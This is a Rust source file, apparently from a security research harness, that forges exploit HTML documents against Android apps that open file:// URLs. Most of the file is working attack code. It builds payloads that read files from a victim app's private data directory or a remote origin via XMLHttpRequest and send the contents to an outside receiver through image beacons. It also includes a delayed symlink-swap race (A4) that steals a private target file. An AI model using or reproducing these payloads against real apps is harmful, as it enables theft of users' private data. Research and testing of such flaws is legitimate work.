//! Attack and probe payload generation: byte-exact HTML text for real
//! backends plus the structured plan the simulated backend interprets.

use percent_encoding::{percent_encode, NON_ALPHANUMERIC};
use serde::{Deserialize, Serialize};

use crate::version::Version;

/// Delay before an A4 payload re-reads its own document URL.
pub const A4_EXEC_DELAY_MS: u64 = 8000;
/// When the harness swaps the A4 document for a symlink. Must be inside
/// (0, A4_EXEC_DELAY_MS).
pub const SYMLINK_SWAP_DELAY_MS: u64 = 3000;
/// Beacon contents beyond this many raw bytes are cut and flagged with
/// `&trunc=1`; unbounded GET query strings break real HTTP stacks.
pub const CON_MAX_BYTES: usize = 4096;
/// Marker content carried by the characterization probes.
pub const REQFLAG: &str = "reqflag";

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum AttackId {
    A1 = 1,
    A2 = 2,
    A3 = 3,
    A4 = 4,
    /// file:// support probe, document staged on the SD card.
    ProbeFileSd = 5,
    /// file:// support probe, document staged in the private file zone.
    ProbeFilePrivate = 6,
    /// JavaScript-in-file:// probe with a noscript fallback beacon.
    ProbeJs = 7,
}

impl AttackId {
    pub fn number(self) -> u8 {
        self as u8
    }

    pub fn from_number(n: u8) -> Option<Self> {
        match n {
            1 => Some(AttackId::A1),
            2 => Some(AttackId::A2),
            3 => Some(AttackId::A3),
            4 => Some(AttackId::A4),
            5 => Some(AttackId::ProbeFileSd),
            6 => Some(AttackId::ProbeFilePrivate),
            7 => Some(AttackId::ProbeJs),
            _ => None,
        }
    }

    pub const ATTACKS: [AttackId; 4] = [AttackId::A1, AttackId::A2, AttackId::A3, AttackId::A4];
    pub const PROBES: [AttackId; 3] = [
        AttackId::ProbeFileSd,
        AttackId::ProbeFilePrivate,
        AttackId::ProbeJs,
    ];
}

impl std::fmt::Display for AttackId {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            AttackId::A1 => write!(f, "A1"),
            AttackId::A2 => write!(f, "A2"),
            AttackId::A3 => write!(f, "A3"),
            AttackId::A4 => write!(f, "A4"),
            other => write!(f, "atk{}", other.number()),
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AttackSpec {
    pub attack_id: AttackId,
    pub target_package: String,
    /// Path of the target file inside the private zone (A1/A2/A4).
    pub target_file: Option<String>,
    /// Remote origin whose content A3 steals across protocols.
    pub remote_origin: Option<String>,
    pub device_version: Version,
    pub key_id: String,
    pub receiver_base: String,
}

#[derive(Debug, thiserror::Error, PartialEq, Eq)]
pub enum ForgeError {
    #[error("{attack} requires `{field}`")]
    MissingField { attack: AttackId, field: &'static str },
    #[error("key_id must be non-empty")]
    EmptyKeyId,
}

/// Where a document must be fetched from by a forged plan.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum OriginKind {
    SameFile,
    CrossFile,
    CrossProtocol,
    SelfDocument,
}

/// One step of a payload's structured interpretation.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum PlanAction {
    /// Plain `<img>` beacon; fires whenever the document renders,
    /// with or without JavaScript.
    StaticBeacon { con: String },
    /// Script-built `<img>` beacon; fires only when scripts run.
    ScriptedBeacon { con: String },
    /// `<noscript>` beacon; fires exactly when scripts do not run.
    NoscriptBeacon { con: String },
    /// Asynchronous fetch whose response body is beaconed as `con`.
    /// Scripted; `delay_ms` is virtual time after document load.
    FetchAndBeacon {
        origin: OriginKind,
        url: String,
        delay_ms: u64,
    },
}

/// Where the attack document must be placed before the intent is sent.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Staging {
    Sdcard { path: String },
    Private { path: String },
    None,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Followup {
    /// Delete the staged document and symlink its path to `target_file`
    /// in the victim's private zone after `delay_ms` of virtual time.
    DeleteAndSymlink { target_file: String, delay_ms: u64 },
}

/// The five beacon parameters shared by every request a payload emits.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct BeaconTemplate {
    pub receiver_base: String,
    pub pkg: String,
    pub atk: u8,
    pub ver: String,
    pub kid: String,
}

impl BeaconTemplate {
    /// `<base>/req?pkg=..&atk=..&con=` — everything before the content.
    pub fn url_prefix(&self) -> String {
        format!(
            "{}/req?pkg={}&atk={}&con=",
            self.receiver_base, self.pkg, self.atk
        )
    }

    /// `&ver=..&kid=..` — everything after the content.
    pub fn url_suffix(&self) -> String {
        format!("&ver={}&kid={}", self.ver, self.kid)
    }

    /// Full beacon URL for raw content bytes. Content is percent-encoded
    /// and truncated at [`CON_MAX_BYTES`] with a `&trunc=1` marker.
    pub fn url_for_content(&self, content: &[u8]) -> String {
        let truncated = content.len() > CON_MAX_BYTES;
        let body = &content[..content.len().min(CON_MAX_BYTES)];
        let encoded = percent_encode(body, NON_ALPHANUMERIC).to_string();
        let marker = if truncated { "&trunc=1" } else { "" };
        format!("{}{encoded}{}{marker}", self.url_prefix(), self.url_suffix())
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Payload {
    pub attack_id: AttackId,
    /// The data URL carried by the delivery intent.
    pub intent_data_url: String,
    /// Rendered attack document; empty for A1, which sends no HTML.
    pub html_text: String,
    pub plan: Vec<PlanAction>,
    pub staging: Staging,
    pub followup: Option<Followup>,
    pub beacon: BeaconTemplate,
}

impl Payload {
    /// File name under `exploits/<pkg>/` when dumped to disk.
    pub fn exploit_file_name(&self) -> String {
        format!("{}.html", self.attack_id.number())
    }
}

pub fn private_file_url(pkg: &str, path: &str) -> String {
    format!("file:///data/data/{pkg}/{path}")
}

pub fn sdcard_file_url(path: &str) -> String {
    format!("file:///sdcard/{path}")
}

/// Generate the payload for one attack or probe. Deterministic: equal
/// specs yield identical bytes.
pub fn forge(spec: &AttackSpec) -> Result<Payload, ForgeError> {
    if spec.key_id.is_empty() {
        return Err(ForgeError::EmptyKeyId);
    }
    let pkg = &spec.target_package;
    let beacon = BeaconTemplate {
        receiver_base: spec.receiver_base.clone(),
        pkg: pkg.clone(),
        atk: spec.attack_id.number(),
        ver: spec.device_version.to_string(),
        kid: spec.key_id.clone(),
    };
    let target = |attack: AttackId| {
        spec.target_file
            .as_deref()
            .ok_or(ForgeError::MissingField {
                attack,
                field: "target_file",
            })
    };

    let payload = match spec.attack_id {
        AttackId::A1 => {
            // Bare VIEW intent pointing straight at the sensitive file;
            // success shows up in the Download directory, not as a beacon.
            let target = target(AttackId::A1)?;
            Payload {
                attack_id: AttackId::A1,
                intent_data_url: private_file_url(pkg, target),
                html_text: String::new(),
                plan: Vec::new(),
                staging: Staging::None,
                followup: None,
                beacon,
            }
        }
        AttackId::A2 => {
            let target = target(AttackId::A2)?;
            let doc = "attack2.html";
            let fetch_url = private_file_url(pkg, target);
            let html = xhr_exfil_html(&beacon, &fetch_url, 0);
            Payload {
                attack_id: AttackId::A2,
                intent_data_url: sdcard_file_url(doc),
                html_text: html,
                plan: vec![PlanAction::FetchAndBeacon {
                    origin: OriginKind::CrossFile,
                    url: fetch_url,
                    delay_ms: 0,
                }],
                staging: Staging::Sdcard { path: doc.into() },
                followup: None,
                beacon,
            }
        }
        AttackId::A3 => {
            let origin = spec
                .remote_origin
                .as_deref()
                .ok_or(ForgeError::MissingField {
                    attack: AttackId::A3,
                    field: "remote_origin",
                })?;
            let doc = "attack3.html";
            let html = xhr_exfil_html(&beacon, origin, 0);
            Payload {
                attack_id: AttackId::A3,
                intent_data_url: sdcard_file_url(doc),
                html_text: html,
                plan: vec![PlanAction::FetchAndBeacon {
                    origin: OriginKind::CrossProtocol,
                    url: origin.into(),
                    delay_ms: 0,
                }],
                staging: Staging::Sdcard { path: doc.into() },
                followup: None,
                beacon,
            }
        }
        AttackId::A4 => {
            let target = target(AttackId::A4)?;
            let doc = "attack4.html";
            let html = self_read_html(&beacon, A4_EXEC_DELAY_MS);
            Payload {
                attack_id: AttackId::A4,
                intent_data_url: sdcard_file_url(doc),
                html_text: html,
                plan: vec![PlanAction::FetchAndBeacon {
                    origin: OriginKind::SelfDocument,
                    url: sdcard_file_url(doc),
                    delay_ms: A4_EXEC_DELAY_MS,
                }],
                staging: Staging::Sdcard { path: doc.into() },
                followup: Some(Followup::DeleteAndSymlink {
                    target_file: target.into(),
                    delay_ms: SYMLINK_SWAP_DELAY_MS,
                }),
                beacon,
            }
        }
        AttackId::ProbeFileSd | AttackId::ProbeFilePrivate => {
            let doc = format!("probe{}.html", spec.attack_id.number());
            let html = static_probe_html(&beacon);
            let (staging, intent_url) = if spec.attack_id == AttackId::ProbeFileSd {
                (Staging::Sdcard { path: doc.clone() }, sdcard_file_url(&doc))
            } else {
                (
                    Staging::Private { path: doc.clone() },
                    private_file_url(pkg, &doc),
                )
            };
            Payload {
                attack_id: spec.attack_id,
                intent_data_url: intent_url,
                html_text: html,
                plan: vec![PlanAction::StaticBeacon {
                    con: REQFLAG.into(),
                }],
                staging,
                followup: None,
                beacon,
            }
        }
        AttackId::ProbeJs => {
            let doc = "probe7.html";
            let html = js_probe_html(&beacon);
            Payload {
                attack_id: AttackId::ProbeJs,
                intent_data_url: sdcard_file_url(doc),
                html_text: html,
                plan: vec![
                    PlanAction::ScriptedBeacon {
                        con: REQFLAG.into(),
                    },
                    PlanAction::NoscriptBeacon { con: String::new() },
                ],
                staging: Staging::Sdcard { path: doc.into() },
                followup: None,
                beacon,
            }
        }
    };
    Ok(payload)
}

/// The file:// support probe document: one static image beacon carrying
/// `con=reqflag`.
fn static_probe_html(beacon: &BeaconTemplate) -> String {
    let url = format!("{}{}{}", beacon.url_prefix(), REQFLAG, beacon.url_suffix());
    format!("<html><body>  <img src='{url}'>  </body></html>")
}

/// The JavaScript probe: a script-built image beacon with `con=reqflag`
/// and a noscript fallback with empty `con`.
fn js_probe_html(beacon: &BeaconTemplate) -> String {
    let js_url = format!("{}{}{}", beacon.url_prefix(), REQFLAG, beacon.url_suffix());
    let noscript_url = format!("{}{}", beacon.url_prefix(), beacon.url_suffix());
    format!(
        "<html><body>\n\
         <script>\n\
         var d = document; var img = d.createElement('img');\n\
         img.src = '{js_url}';\n\
         d.body.appendChild(img);\n\
         </script>\n\
         <noscript>\n\
         <img src='{noscript_url}'>\n\
         </noscript>\n\
         </body></html>"
    )
}

/// A2/A3 document: synchronous XMLHttpRequest against `fetch_url`, then
/// an image beacon carrying the response text.
fn xhr_exfil_html(beacon: &BeaconTemplate, fetch_url: &str, delay_ms: u64) -> String {
    let body = format!(
        "var xhr = new XMLHttpRequest();\n\
         xhr.open('GET', '{fetch_url}', false);\n\
         xhr.send();\n\
         sendFile(xhr.responseText);"
    );
    let script = if delay_ms > 0 {
        format!("setTimeout(function () {{\n{body}\n}}, {delay_ms});")
    } else {
        body
    };
    exfil_document(beacon, &script)
}

/// A4 document: after `delay_ms`, re-read the current document URL and
/// beacon its contents.
fn self_read_html(beacon: &BeaconTemplate, delay_ms: u64) -> String {
    let script = format!(
        "var aim = document.URL;\n\
         setTimeout(function () {{\n\
         var xhr = new XMLHttpRequest();\n\
         xhr.open('GET', aim, false);\n\
         xhr.send();\n\
         sendFile(xhr.responseText);\n\
         }}, {delay_ms});"
    );
    exfil_document(beacon, &script)
}

fn exfil_document(beacon: &BeaconTemplate, script: &str) -> String {
    format!(
        "<html><body>\n\
         <script>\n\
         {script}\n\
         function sendFile(txt) {{\n\
         var img = document.createElement('img');\n\
         img.src = '{prefix}' + encodeURIComponent(txt) + '{suffix}';\n\
         document.body.appendChild(img);\n\
         }}\n\
         </script>\n\
         </body></html>",
        prefix = beacon.url_prefix(),
        suffix = beacon.url_suffix(),
    )
}
